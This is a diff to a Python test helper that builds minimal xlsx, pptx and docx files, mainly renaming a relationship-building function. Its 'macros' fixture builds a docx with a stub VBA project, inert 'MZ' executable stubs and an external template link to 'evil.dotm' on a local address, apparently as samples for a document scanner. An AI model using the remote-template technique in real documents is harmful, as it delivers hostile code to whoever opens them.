@@ -27,7 +27,8 @@ _RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationship
 _PACKAGE = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
 
 
-def _relation(key: str, kind: str, target: str, mode: str = "") -> str:
+def relation(key: str, kind: str, target: str, mode: str = "") -> str:
+    """A part's relations of one row; mode: further attributes."""
     return f'{_PACKAGE}<Relationship Id="{key}" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
 
 
@@ -62,11 +63,11 @@ def workbook(sheet: bytes, strings: bytes = b"") -> list[tuple[str, bytes]]:
     """Members of an xlsx of one sheet."""
     book = f'<workbook xmlns="{_SHEET}" xmlns:r="{_RELATIONS}"><sheets>' \
            '<sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'
-    relations = _relation("r1", "worksheet", "worksheets/sheet1.xml").replace(
+    relations = relation("r1", "worksheet", "worksheets/sheet1.xml").replace(
         "</Relationships>", f'<Relationship Id="r2" Type="{_RELATIONS}/sharedStrings" Target="sharedStrings.xml"/>'
                             "</Relationships>")
     members = [("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", book.encode()),
-               ("_rels/.rels", _relation("r1", "officeDocument", "xl/workbook.xml").encode()),
+               ("_rels/.rels", relation("r1", "officeDocument", "xl/workbook.xml").encode()),
                ("xl/_rels/workbook.xml.rels", relations.encode()), ("xl/worksheets/sheet1.xml", sheet)]
     return [*members, ("xl/sharedStrings.xml", strings)] if strings else members
 
@@ -76,8 +77,8 @@ def slides(slide: bytes) -> list[tuple[str, bytes]]:
     show = f'<p:presentation {_SLIDES} xmlns:r="{_RELATIONS}"><p:sldIdLst><p:sldId id="256" r:id="r1"/></p:sldIdLst>' \
            '<p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
     return [("[Content_Types].xml", b"<Types/>"), ("ppt/presentation.xml", show.encode()),
-            ("_rels/.rels", _relation("r1", "officeDocument", "ppt/presentation.xml").encode()),
-            ("ppt/_rels/presentation.xml.rels", _relation("r1", "slide", "slides/slide1.xml").encode()),
+            ("_rels/.rels", relation("r1", "officeDocument", "ppt/presentation.xml").encode()),
+            ("ppt/_rels/presentation.xml.rels", relation("r1", "slide", "slides/slide1.xml").encode()),
             ("ppt/slides/slide1.xml", slide)]
 
 
@@ -135,8 +136,8 @@ def macros(path: Path) -> None:
     outer = ' TargetMode="External"'
     docx_of(path, p("开展法治讲座3场。") + field + shape,
             word__vbaProject_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
-            word___rels__settings_xml_rels=_relation("r1", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", outer),
-            word___rels__document_xml_rels=_relation("r9", "oleObject", "embeddings/oleObject1.bin"),
+            word___rels__settings_xml_rels=relation("r1", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", outer),
+            word___rels__document_xml_rels=relation("r9", "oleObject", "embeddings/oleObject1.bin"),
             word__embeddings__oleObject1_bin=b"MZ" + bytes(500), word__embeddings__run_exe=b"MZ" + bytes(500))
 
 
